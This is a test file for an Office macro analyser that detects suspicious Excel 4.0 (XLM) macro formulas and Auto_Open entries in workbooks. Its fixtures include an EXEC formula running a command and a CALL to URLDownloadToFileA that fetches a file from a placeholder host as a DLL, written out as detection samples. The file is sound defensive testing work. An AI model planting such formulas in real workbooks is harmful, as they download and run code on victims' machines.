import assert from 'node:assert/strict';
import { analyzeXlm, xlmAutoexec } from '../../../src/inspect/office/xlm.js';
import { parseBiff, renderFormula } from '../../../src/inspect/office/biff.js';
import { XLM, buildWorkbookStream, ptg } from '../../fixtures/office/ole-builders.js';

describe('analyzeXlm', () => {
  it('no formula, no finding', () => {
    assert.deepEqual(analyzeXlm([], 'p'), []);
    assert.deepEqual(analyzeXlm(['', '='], 'p'), []);
  });

  it('names notable functions in OOXML-style formula text', () => {
    const f = analyzeXlm(
      ['=EXEC("cmd /c calc.exe")', '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.test/x","c:\\x.dll",0,0)', '=HALT()'],
      'b.xlsm > xl/macrosheets/sheet1.xml',
    );
    assert.equal(f[0].symbol, 'OFFICE_XLM_MACRO');
    assert.match(f[0].detail!, /3 macro-sheet formula\(s\): EXEC, CALL, URLDownloadToFileA, HALT/);
    assert.equal(f[1].symbol, 'OFFICE_MACRO_SUSPICIOUS');
    assert.match(f[1].detail!, /EXEC, CALL, URLDownloadToFileA/);
    assert.match(f[1].detail!, /http:\/\/example\.test\/x/);
  });

  it('benign macro sheet: only OFFICE_XLM_MACRO', () => {
    const f = analyzeXlm(['=SELECT("R1C1")', '=RETURN()'], 'p');
    assert.deepEqual(
      f.map((x) => x.symbol),
      ['OFFICE_XLM_MACRO'],
    );
  });

  it('Auto_Open names', () => {
    assert.equal(xlmAutoexec(['Print_Area', 'Auto_Open'], 'p')[0]?.symbol, 'OFFICE_MACRO_AUTOEXEC');
    assert.deepEqual(xlmAutoexec(['Print_Area'], 'p'), []);
  });
});

describe('BIFF8 formulas', () => {
  it('renders ptgFuncVar/ptgFunc/ptgStr, Cetab commands and user-defined calls', () => {
    const exec = Buffer.concat([ptg.str('cmd /c calc'), ptg.funcVar(XLM.EXEC, 1)]);
    assert.equal(renderFormula(exec, true, []), '=EXEC("cmd /c calc")');
    const formula = Buffer.concat([ptg.str('=HALT()'), ptg.ref(3, 1), ptg.funcVar(XLM.FORMULA_CE, 2, true)]);
    assert.equal(renderFormula(formula, true, []), '=FORMULA("=HALT()",B4)');
    const chr = Buffer.concat([ptg.int(65), ptg.func(XLM.CHAR), ptg.int(66), ptg.func(XLM.CHAR), ptg.concat()]);
    assert.equal(renderFormula(chr, true, []), '=CHAR(65)&CHAR(66)');
    const udf = Buffer.concat([ptg.str('URLDownloadToFileA'), ptg.int(0), ptg.funcVar(0xff, 2)]);
    assert.equal(renderFormula(udf, true, []), '=URLDownloadToFileA(0)');
    assert.equal(renderFormula(Buffer.from([0x18, 1, 2]), true, []), '=…');
  });

  it('parses BOUNDSHEET type/visibility, built-in names and macro-sheet formulas', () => {
    const wb = buildWorkbookStream({
      macroSheet: { name: 'Macro1', hidden: 2, formulas: [Buffer.concat([ptg.str('x'), ptg.funcVar(XLM.EXEC, 1)])] },
      autoOpen: true,
    });
    const info = parseBiff(wb);
    assert.deepEqual(
      info.sheets.map((s) => [s.name, s.type, s.hidden, s.formulas]),
      [
        ['Sheet1', 0, 0, []],
        ['Macro1', 1, 2, ['=EXEC("x")']],
      ],
    );
    assert.deepEqual(info.names, ['Auto_Open']);
  });
});
